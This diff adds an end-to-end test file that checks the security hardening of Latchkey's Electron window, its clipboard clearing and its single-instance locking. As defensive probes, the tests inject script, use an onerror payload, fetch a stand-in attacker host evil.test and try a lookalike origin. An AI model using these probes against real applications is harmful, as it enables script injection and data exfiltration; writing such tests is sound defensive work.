@@ -1,0 +1,191 @@
+import { spawnSync } from 'node:child_process';
+import { mkdtemp, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { whyNoSecretService } from '../secret-service.ts';
+import { type ElectronRun, electronHost, startOnDouble } from './electron-host.ts';
+import { projectRoot } from './loopback-run.ts';
+import { createAndKeep, openSandbox, row } from './window.ts';
+
+let dataDir: string;
+let run: ElectronRun;
+
+beforeEach(async (context) => {
+  const obstacle = electronHost.obstacle() ?? whyNoSecretService();
+  if (obstacle !== null) context.skip(obstacle);
+  dataDir = await mkdtemp(join(tmpdir(), 'latchkey-e2e-'));
+  run = await startOnDouble(dataDir);
+  await run.page.getByRole('button', { name: 'Try it' }).waitFor();
+});
+afterEach(async () => {
+  await run?.quit();
+  if (dataDir !== undefined) await rm(dataDir, { recursive: true, force: true });
+});
+
+describe('the window of the Electron host', () => {
+  it('is sandboxed and isolated, and its session is in memory', async () => {
+    const { windows, sandboxEnabled } = await run.order('records');
+    expect(sandboxEnabled).toBe(true);
+    expect(windows).toMatchObject([
+      {
+        webPreferences: {
+          sandbox: true,
+          contextIsolation: true,
+          nodeIntegration: false,
+          webSecurity: true,
+          session: 'window',
+        },
+      },
+    ]);
+  });
+
+  it('gets two functions of the world outside it and nothing else', async () => {
+    const seen = await run.page.evaluate(() => ({
+      api: Object.keys(Reflect.get(window, 'latchkey')),
+      frozen: Object.isFrozen(Reflect.get(window, 'latchkey')),
+      others: ['require', 'process', 'module', 'ipcRenderer', 'electron', 'doubleToMain'].filter(
+        (name) => name in window,
+      ),
+    }));
+    expect(seen).toEqual({ api: ['call', 'subscribe'], frozen: true, others: [] });
+  });
+
+  it('runs no script that was not built into it', async () => {
+    const ran = await run.page.evaluate(async () => {
+      const script = document.createElement('script');
+      script.textContent = 'window.wasInjected = true';
+      document.head.append(script);
+      const image = document.createElement('img');
+      image.setAttribute('onerror', 'window.wasInjected = true');
+      image.src = 'data:,';
+      document.body.append(image);
+      await new Promise((resolve) => setTimeout(resolve, 200));
+      return 'wasInjected' in window;
+    });
+    expect(ran).toBe(false);
+    const evaluated = await run.page.evaluate(() => {
+      try {
+        return Boolean(Reflect.construct(Function, ['return true'])());
+      } catch {
+        return 'refused';
+      }
+    });
+    expect(evaluated).toBe('refused');
+  });
+
+  it('sends nothing elsewhere', async () => {
+    const sent = await run.page.evaluate(() =>
+      fetch('https://evil.test/?x=1').then(
+        () => 'sent',
+        () => 'refused',
+      ),
+    );
+    expect(sent).toBe('refused');
+  });
+
+  it('stays where it is', async () => {
+    const before = run.page.url();
+    await run.page.evaluate(() => {
+      location.href = 'https://evil.test/';
+    });
+    await run.page.getByRole('button', { name: 'Try it' }).waitFor();
+    expect(run.page.url()).toBe(before);
+  });
+
+  it('opens no other window', async () => {
+    await run.page.evaluate(() => void window.open('https://evil.test/'));
+    await expect.poll(() => run.context.pages().filter((page) => page.url().includes('evil.test')).length).toBe(0);
+    expect((await run.order('records')).popups).toBe(1);
+  });
+
+  it('gets no permission', async () => {
+    const { permissions } = await run.order('records');
+    expect(Object.keys(permissions).length).toBeGreaterThan(3);
+    expect(Object.values(permissions)).not.toContain(true);
+    const state = await run.page.evaluate(
+      async () => (await navigator.permissions.query({ name: 'geolocation' })).state,
+    );
+    expect(state).toBe('denied');
+  });
+});
+
+describe('a call', () => {
+  it.each([
+    ['our window at another address', 'https://evil.test/', true],
+    ['a frame inside our window', 'app://bundle/', false],
+    ['an address that begins like ours', 'app://bundle.evil.test/', true],
+  ])('from %s is refused', async (_who, url, isTop) => {
+    const reply = await run.order('callFromForeignFrame', url, isTop, 'listAccounts', {});
+    expect(reply).toMatchObject({ ok: false, error: { code: 'foreign_caller' } });
+  });
+
+  it('from our window is answered', async () => {
+    const reply = await run.order('callFromForeignFrame', 'app://bundle/', true, 'listAccounts', {});
+    expect(reply).toEqual({ ok: true, output: [] });
+  });
+});
+
+describe('the clipboard of the Electron host', () => {
+  beforeEach(async () => {
+    await openSandbox(run.page);
+    await createAndKeep(run.page, 'CI');
+    await row(run.page, 'CI').click();
+    await row(run.page, 'CI').getByText('Copied').waitFor();
+  });
+
+  it('gets an entry that clipboard managers are told to keep out of their history', async () => {
+    const { formats } = await run.order('readClipboard');
+    expect(formats).toContain('text/plain');
+    if (process.platform === 'linux') {
+      expect(formats).toContain('electron application/osclipboard;format="x-kde-passwordManagerHint"');
+    }
+  });
+
+  it('is cleared on demand, and left alone when it holds something else by then', async () => {
+    await run.writeClipboard('a shopping list');
+    await run.page.getByRole('button', { name: 'Clear now' }).click();
+    await run.page.getByRole('button', { name: 'Clear now' }).waitFor({ state: 'detached' });
+    expect(await run.readClipboard()).toBe('a shopping list');
+    await row(run.page, 'CI').click();
+    await run.page.getByRole('button', { name: 'Clear now' }).click();
+    await expect.poll(run.readClipboard).toBe('');
+  });
+
+  it('is cleared when Latchkey quits', async () => {
+    const { output } = run;
+    await run.quit();
+    expect(output()).toContain('clipboard at the end: {"text":"","formats":[]}');
+    run.quit = async () => 0;
+  });
+});
+
+describe('a second start on the same data folder', () => {
+  it('of the Electron host ends at once and brings the first to the front', async () => {
+    const second = spawnSync(
+      process.execPath,
+      [
+        '--import',
+        join(import.meta.dirname, 'double/register.ts'),
+        join(projectRoot, 'out/main/electron.js'),
+        '--data-dir',
+        dataDir,
+      ],
+      { env: { ...process.env, LATCHKEY_DOUBLE_CDP: run.endpoint }, encoding: 'utf8', timeout: 30_000 },
+    );
+    expect(second.status).toBe(0);
+    await expect.poll(async () => (await run.order('records')).secondInstances).toBe(1);
+  });
+
+  it('of the loopback host says in one sentence that the folder is in use', () => {
+    const second = spawnSync(process.execPath, [join(projectRoot, 'out/main/loopback.js'), '--data-dir', dataDir], {
+      encoding: 'utf8',
+      timeout: 30_000,
+    });
+    expect(second.status).toBe(1);
+    expect(second.stderr).toMatch(
+      /^Another Latchkey is using the data folder .*\. Use that one, or quit it first\.\n$/,
+    );
+    expect(second.stdout).toBe('');
+  });
+});
